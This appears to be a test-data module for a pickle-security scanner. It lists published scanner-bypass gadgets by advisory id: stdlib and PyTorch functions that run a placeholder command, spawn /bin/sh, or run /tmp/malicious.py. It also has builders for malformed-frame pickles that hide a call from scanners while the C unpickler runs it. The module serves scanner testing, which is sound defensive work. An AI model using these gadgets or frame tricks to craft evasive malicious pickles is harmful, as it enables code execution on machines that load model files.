"""Gadgets of published pickle-scanner bypasses (picklescan's and fickling's GHSA test data):
advisory id -> the calls its proof of concept makes, as (module, name, args). "CMD" stands for the
command a test or the bench substitutes. Used by tests/static/test_advisories.py and bench/."""

from __future__ import annotations

from collections.abc import Callable

from testing.pickle_asm import asm, call, const, frame, o, stack_global

Gadget = tuple[str, str, tuple[object, ...]]

GADGETS: dict[str, list[Gadget]] = {
    "GHSA-g38g-8gr9-h9xp": [
        ("uuid", "_get_command_stdout", ("CMD",)),
        ("_osx_support", "_read_output", ("CMD",)),
        ("_aix_support", "_read_cmd_output", ("CMD",)),
        ("imaplib", "IMAP4_stream", ("CMD",)),
        ("_pyrepl.pager", "pipe_pager", ("x", "CMD")),
        ("_pyrepl.pager", "tempfile_pager", ("x", "CMD")),
        ("test.support.script_helper", "assert_python_ok", ("-c", "CMD")),
    ],
    "GHSA-4r9r-ch6f-vxmx": [
        ("torch.utils.bottleneck.__main__", "run_cprofile", ("CMD", None)),
    ],
    "GHSA-4whj-rm5r-c2v8": [
        ("torch.utils.bottleneck.__main__", "run_autograd_prof", ("CMD", None)),
    ],
    "GHSA-86cj-95qr-2p4f": [
        ("torch._dynamo.guards", "GuardBuilder.get", (None, "CMD")),
    ],
    "GHSA-f4x7-rfwp-v3xw": [
        ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", (None, "CMD")),
    ],
    "GHSA-f745-w6jp-hpxx": [
        ("torch.utils.collect_env", "run", ("CMD",)),
    ],
    "GHSA-h3qp-7fh3-f8h4": [
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b"")),
    ],
    "GHSA-vr7h-p6mm-wpmh": [
        ("torch.jit.unsupported_tensor_ops", "execWrapper", ("CMD", None, None)),
    ],
    "GHSA-vv6j-3g6g-2pvj": [
        ("torch.utils._config_module", "ConfigModule.load_config", (None, b"")),
    ],
    "GHSA-5qwp-399c-mjwf": [
        ("trace", "Trace.run", (None, "CMD")),
    ],
    "GHSA-g344-hcph-8vgg": [
        ("trace", "Trace.runctx", (None, "CMD", None, None)),
    ],
    "GHSA-x696-vm39-cp64": [
        ("profile", "Profile.run", (None, "CMD")),
    ],
    "GHSA-6vqj-c2q5-j97w": [
        ("profile", "Profile.runctx", (None, "CMD", None, None)),
    ],
    "GHSA-7wx9-6375-f5wh": [
        ("profile", "run", ("CMD",)),
    ],
    "GHSA-9w88-8rmg-7g2p": [
        ("cProfile", "runctx", ("CMD", None, None)),
    ],
    "GHSA-49gj-c84q-6qm9": [
        ("cProfile", "run", ("CMD",)),
    ],
    "GHSA-f54q-57x4-jg88": [
        ("lib2to3.pgen2.grammar", "Grammar.loads", (None, b"")),
    ],
    "GHSA-p9w7-82w4-7q8m": [
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, None, "CMD")),
    ],
    "GHSA-3vg9-h568-4w9m": [
        ("idlelib.debugobj", "ObjectTreeItem.SetText", (None, "CMD")),
    ],
    "GHSA-6w4w-5w54-rjvr": [
        ("idlelib.autocomplete", "AutoComplete.get_entity", (None, "CMD")),
    ],
    "GHSA-7cq8-mj8x-j263": [
        ("idlelib.autocomplete", "AutoComplete.fetch_completions", (None, "CMD", 1)),
    ],
    "GHSA-8r4j-24qv-fmq9": [
        ("idlelib.calltip", "Calltip.fetch_tip", (None, "CMD")),
    ],
    "GHSA-9xph-j2h6-g47v": [
        ("idlelib.calltip", "get_entity", ("CMD",)),
    ],
    "GHSA-m869-42cg-3xwr": [
        ("idlelib.run", "Executive.runcode", (None, "CMD")),
    ],
    "GHSA-j343-8v2j-ff7w": [
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", (None, "CMD")),
    ],
    "GHSA-3gf5-cxq9-w223": [
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", (None, "CMD")),
    ],
    "GHSA-cj3c-v495-4xqh": [
        ("code", "InteractiveInterpreter.runcode", (None, "CMD")),
    ],
    "GHSA-fqq6-7vqf-w3fg": [
        ("doctest", "debug_script", ("CMD", True)),
    ],
    "GHSA-xp4f-hrf8-rxw7": [
        ("ensurepip", "_run_pip", ("CMD",)),
    ],
    "GHSA-vvpj-8cmc-gx39": [
        ("pkgutil", "resolve_name", ("os:system",)),
    ],
    "GHSA-q77w-mwjj-7mqx": [
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", (None, "CMD", True, None, None, None, 0)),
    ],
    "GHSA-m273-6v24-x4m4": [
        ("distutils.file_util", "write_file", ("pwned_config.env", "CMD")),
    ],
    "GHSA-4675-36f9-wf6r": [
        ("ctypes", "CDLL", (None,)),
    ],
    "GHSA-vqmv-47xg-9wpr": [
        ("pty", "spawn", (("/bin/sh", "-c", "CMD"),)),
    ],
    "GHSA-r8g5-cgf2-4m4m": [
        ("numpy.f2py.crackfortran", "getlincoef", ("CMD", None)),
    ],
    "GHSA-9726-w42j-3qjr": [
        ("_io", "FileIO", ("/etc/hosts", "r")),
        ("urllib.request", "urlopen", ("https://x.invalid",)),
    ],
    "GHSA-m7j5-r2p5-c39r": [
        ("logging", "FileHandler", ("evil.log",)),
    ],
    "GHSA-r7v6-mfhq-g3m2": [
        ("pty", "spawn", ("CMD",)),
    ],
    "GHSA-wfq2-52f7-7qvj": [
        ("runpy", "run_path", ("/tmp/malicious.py",)),
    ],
    "GHSA-q5qq-mvfm-j35x": [
        ("runpy", "run_path", ("/tmp/malicious.py",)),
        ("importlib", "import_module", ("os",)),
        ("code", "InteractiveInterpreter.runsource", (None, "CMD")),
        ("multiprocessing.util", "spawnv_passfds", ("/bin/sh", ("sh", "-c", "CMD"), ())),
    ],
    "GHSA-p523-jq9w-64x9": [
        ("cProfile", "run", ("CMD",)),
    ],
    "GHSA-5hwf-rc88-82xm": [
        ("uuid", "_get_command_stdout", ("echo", "CMD")),
        ("_aix_support", "_read_cmd_output", ("CMD",)),
        ("_osx_support", "_find_build_tool", ("x; CMD #",)),
    ],
}


# -- protocol-4/5 frames that lie (issue 12, CPython gh-154848): builders(module, name, arg) -> bytes
def straddle_argument(module: str, name: str, arg: str) -> bytes:
    # the frame ends in the middle of the module string: the C unpickler reads on past the end
    body = asm(call(module, name, arg), o.STOP())
    return asm(o.PROTO(5), frame(body, length=3))


def straddle_opcode(module: str, name: str, arg: str) -> bytes:
    # the frame ends between an opcode and its argument, a second frame holds the rest
    head = asm(stack_global(module, name))
    tail = asm(const((arg,)), o.REDUCE(), o.STOP())
    return asm(o.PROTO(5), frame(head, length=1), frame(tail))


def nested(module: str, name: str, arg: str) -> bytes:
    # a FRAME inside a frame with bytes still unread (the outer frame claims everything)
    inner = frame(call(module, name, arg), o.STOP())
    outer = asm(o.EMPTY_TUPLE(), o.POP()) + inner
    return asm(o.PROTO(4), frame(outer, length=len(outer)))


def past_end(module: str, name: str, arg: str) -> bytes:
    # the frame claims more bytes than the file holds: pickle._Unpickler runs it to STOP
    body = asm(call(module, name, arg), o.STOP())
    return asm(o.PROTO(4), frame(body, length=len(body) + 4096))


def unread(module: str, name: str, arg: str) -> bytes:
    # STOP inside the frame, bytes of the frame left after it (data a frame-aware reader skips)
    body = asm(call(module, name, arg), o.STOP(), b"\x00" * 16)
    return asm(o.PROTO(4), frame(body))


def old_protocol(module: str, name: str, arg: str) -> bytes:
    return asm(o.PROTO(2), frame(call(module, name, arg), o.STOP()))


def hidden_in_bytes(module: str, name: str, arg: str) -> bytes:
    """CPython gh-154848 (fickling's test_frame_boundary_divergence): FRAME claims 2 bytes, BINBYTES
    declares 0x107. Read linearly, the call is the content of a bytes object; the C unpickler reading
    a file without peek() (io.BytesIO, as torch.load reads a zip member) drops the length bytes
    beyond the frame, reads the length afresh (1) and then runs the call as opcodes. (fickling's
    version adds a 128 KiB UNICODE line so that a peeking file behaves the same.)"""
    hidden = asm(o.GLOBAL(module, name), o.UNICODE(arg), o.TUPLE1(), o.REDUCE(), o.MARK())
    return asm(
        o.PROTO(5),
        o.NONE(),
        o.MARK(),
        o.FRAME(2),
        o.BINBYTES(b"", length=0x107),
        b"\x00\x00",
        hidden.ljust(256 + 5, asm(o.NONE())),
        o.POP_MARK(),
        o.STOP(),
    )


FRAME_VARIANTS: dict[str, Callable[[str, str, str], bytes]] = {
    "straddle-argument": straddle_argument,
    "straddle-opcode": straddle_opcode,
    "nested-frame": nested,
    "frame-past-end": past_end,
    "frame-unread": unread,
    "frame-in-protocol-2": old_protocol,
    "frame-divergent-c-reader": hidden_in_bytes,
}
